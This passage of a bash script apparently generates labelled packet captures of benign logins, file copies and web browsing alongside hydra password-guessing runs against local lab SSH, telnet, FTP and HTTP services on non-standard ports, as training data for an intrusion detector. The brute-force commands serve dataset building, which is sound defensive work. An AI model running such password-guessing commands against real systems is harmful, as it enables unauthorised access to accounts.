  nsa env SSH_ASKPASS="$WORK/askpass.sh" SSH_ASKPASS_REQUIRE=force DISPLAY=:0 timeout 30 \
    ssh "${SSHO[@]}" -o PubkeyAuthentication=no -o PreferredAuthentications=password -o NumberOfPasswordPrompts=3 \
    -b 169.254.77.6 $LABUSER@169.254.77.2 'id; ls' </dev/null >/dev/null 2>&1 || true
  sleep 1.$((RANDOM % 9))
  nsa timeout 30 "${SCPO[@]}" -o BindAddress=169.254.77.5 "$WORK/notes.txt" $LABUSER@169.254.77.2:notes-up2.txt >/dev/null 2>&1 || true
  sleep 0.$((RANDOM % 9 + 1))
  { sleep 1.5; type_slowly 'pwd'; sleep 0.8; type_slowly 'ls'; sleep 1; type_slowly 'exit'; sleep 1; } |
    nsa timeout 40 "${SSH[@]}" -tt -b 169.254.77.7 $LABUSER@169.254.77.2 >/dev/null 2>&1 || true
  sleep 1.$((RANDOM % 9))
  nsa timeout 30 "${SCPO[@]}" -o BindAddress=169.254.77.6 "$LABUSER@169.254.77.2:$WORK/www/js/app.js" "$WORK/dl2.js" >/dev/null 2>&1 || true
  sleep 0.$((RANDOM % 9 + 1))
  ssh_askpass 'lab-Pass-4711'
  nsa env SSH_ASKPASS="$WORK/askpass.sh" SSH_ASKPASS_REQUIRE=force DISPLAY=:0 timeout 30 \
    ssh "${SSHO[@]}" -o PubkeyAuthentication=no -o PreferredAuthentications=password -o NumberOfPasswordPrompts=3 \
    -b 169.254.77.7 $LABUSER@169.254.77.2 'date' </dev/null >/dev/null 2>&1 || true
  sleep 1.$((RANDOM % 9))
  nsa timeout 30 "${SCPO[@]}" -o BindAddress=169.254.77.5 "$LABUSER@169.254.77.2:$WORK/www/index.html" "$WORK/dl2.html" >/dev/null 2>&1 || true
  sleep 0.$((RANDOM % 9 + 1))
  nsa timeout 30 "${SSH[@]}" -b 169.254.77.6 $LABUSER@169.254.77.2 'wc -c notes-up2.txt; ls | wc -l' >/dev/null 2>&1 || true
  sleep 1
  cap_stop
  rm -f "$WORK/home/notes-up2.txt" "$WORK/dl2.js" "$WORK/dl2.html"
fi
# Benign web (the legitimate counterpart of bruteforce_http_basic_2 and dirbrute_2): many short
# HTTP connections (one request each) from 127.0.0.76/.77/.78 to 127.0.0.21:80 and
# 127.0.0.1:8008, some 404s; each client opens /staff/ without credentials (401), once with a
# mistyped password (401), then logs in and reads a few staff pages.
if scenario benign_web_2 curl nginx; then
  RANDOM=3203
  cap_start train benign_web_2
  get() { nsx curl -s -o /dev/null --max-time 10 --interface "$1" -A 'Mozilla/5.0 (X11; Linux x86_64; rv:115.0)' "${@:2}" >/dev/null 2>&1 || true; }
  for k in $(seq 30); do
    src=127.0.0.$((76 + k % 3))
    case $((RANDOM % 4)) in
      0) get "$src" "http://127.0.0.21/${PAGES[RANDOM % ${#PAGES[@]}]}" ;;
      1) get "$src" "http://127.0.0.1:8008/${PAGES[RANDOM % 13]}" ;;
      2) get "$src" -H 'Connection: close' "http://127.0.0.1:8008/${PAGES[RANDOM % ${#PAGES[@]}]}" ;;
      3) get "$src" "http://127.0.0.21/${PAGES[RANDOM % 13]}" ;;
    esac
    ((RANDOM % 5 == 0)) && get "$src" "http://127.0.0.21/old-page-$((RANDOM % 40)).html"
    if ((k % 10 == 5)); then
      get "$src" http://127.0.0.1:8008/staff/
      sleep 1.$((RANDOM % 9))
      get "$src" -u 'jsmith:Staff-lab-9' http://127.0.0.1:8008/staff/
      sleep 1.$((RANDOM % 9))
      for p in index.html report.html phones.html; do get "$src" -u 'jsmith:Staff-lab-99' "http://127.0.0.1:8008/staff/$p"; sleep 0.$((RANDOM % 6 + 2)); done
    fi
    sleep 0.$((RANDOM % 9 + 1))
  done
  cap_stop
fi

# ---------------------------------------------------------------- third train runs ----
# Password guessing on NON-STANDARD ports (TRAIN only, added in session 5): the train runs
# above guess on the services' usual ports (22, 23, 21, 80, plus 2021 and 8008), so a model
# learned the port; these runs use ports no other run uses (ssh 22022, telnet 10023, ftp
# 10021, http 8888), other word lists, task counts and waits, and a benign counterpart on the
# same ports (benign_nonstd_3). Parameters fixed before generation, not adjusted afterwards;
# the validation runs are unchanged.
if scenario bruteforce_ssh_3 hydra sshd ssh; then
  cap_start train bruteforce_ssh_3
  ( sleep 4; nsx "${SSH[@]}" -b 127.0.0.47 -p 22022 $LABUSER@127.0.0.1 'id; uptime' >/dev/null 2>&1 || true ) & b=$!
  nsx timeout 150 hydra -l $LABUSER -P "$WORK/pass36.txt" -t 3 -w 8 -I -q -o /dev/null ssh://127.0.0.1:22022 >/dev/null 2>&1 || true
  wait $b || true
  cap_stop
fi
if scenario bruteforce_telnet_3 hydra inetutils-inetd telnetd; then
  cap_start train bruteforce_telnet_3
  nsx timeout 150 hydra -l $LABUSER -P "$WORK/pass24.txt" -t 3 -w 8 -I -q -o /dev/null telnet://127.0.0.1:10023 >/dev/null 2>&1 || true
  cap_stop
fi
if scenario bruteforce_ftp_3 hydra; then
  cap_start train bruteforce_ftp_3
  ( sleep 3; nsx $PY "$TOOLS" ftp-good 127.0.0.1 10021 1 3611 127.0.0.47 >/dev/null 2>&1 || true ) & b=$!
  nsx timeout 150 hydra -l alice -P "$WORK/pass64.txt" -t 3 -I -q -o /dev/null ftp://127.0.0.1:10021 >/dev/null 2>&1 || true
  wait $b || true
  cap_stop
fi
if scenario bruteforce_http_basic_3 hydra nginx; then
  RANDOM=3614
  cap_start train bruteforce_http_basic_3
  ( for k in 1 2 3; do web_visit 127.0.0.47 http://127.0.0.1:8888; sleep 2; done ) & b=$!
  nsx timeout 150 hydra -l member -P "$WORK/pass84.txt" -t 3 -I -q -o /dev/null -s 8888 127.0.0.1 http-get /members/ >/dev/null 2>&1 || true
  wait $b || true
  cap_stop
fi
# Benign use of the same non-standard ports: key logins and an interactive session on ssh
# :22022, a telnet login with the right password on :10023 (after one typo), FTP sessions on
# :10021, page views and a members' login (after one 401) on http :8888; clients 127.0.0.81-83.
if scenario benign_nonstd_3 sshd ssh curl nginx inetutils-inetd telnetd; then
  RANDOM=3615
  cap_start train benign_nonstd_3
  nsx timeout 30 "${SSH[@]}" -b 127.0.0.81 -p 22022 $LABUSER@127.0.0.1 'uname -a; ls' >/dev/null 2>&1 || true
  sleep 1.$((RANDOM % 9))
  { sleep 1.5; type_slowly 'pwd'; sleep 1; type_slowly 'exit'; sleep 1; } |
    nsx timeout 40 "${SSH[@]}" -tt -b 127.0.0.82 -p 22022 $LABUSER@127.0.0.1 >/dev/null 2>&1 || true
  nsx $PY "$TOOLS" ftp-good 127.0.0.1 10021 2 3616 127.0.0.83 >/dev/null 2>&1 || true
  { sleep 2; type_slowly "$LABUSER"; sleep 1.5; type_slowly 'Lab-pass-471'; sleep 4; type_slowly "$LABUSER"; sleep 1.5
    type_slowly "$LABPASS"; sleep 2; type_slowly 'ls'; sleep 1; type_slowly 'exit'; sleep 1; } |
    nsx timeout 45 telnet -b 127.0.0.81 127.0.0.1 10023 >/dev/null 2>&1 || true
  for k in 1 2 3 4; do web_visit 127.0.0.8$((1 + k % 3)) http://127.0.0.1:8888; sleep 1.$((RANDOM % 9)); done
  nsx curl -s -o /dev/null --max-time 10 --interface 127.0.0.82 http://127.0.0.1:8888/members/ >/dev/null 2>&1 || true
  sleep 1.$((RANDOM % 9))
  nsx curl -s -o /dev/null --max-time 10 --interface 127.0.0.82 -u 'member:Memb-lab-11' http://127.0.0.1:8888/members/ >/dev/null 2>&1 || true
  nsx timeout 30 "${SSH[@]}" -b 127.0.0.83 -p 22022 $LABUSER@127.0.0.1 'date' >/dev/null 2>&1 || true
  cap_stop
fi

stop_holds; stop_pids "${PIDS[@]}"; PIDS=()
rm -f "$WORK"/ftp/upload-*.txt
echo "done; skipped: ${SKIPPED[*]:-none}" >&2
du -cb "$OUT"/train/*.pcap.gz "$OUT"/validation/*.pcap.gz 2>/dev/null | tail -1 >&2
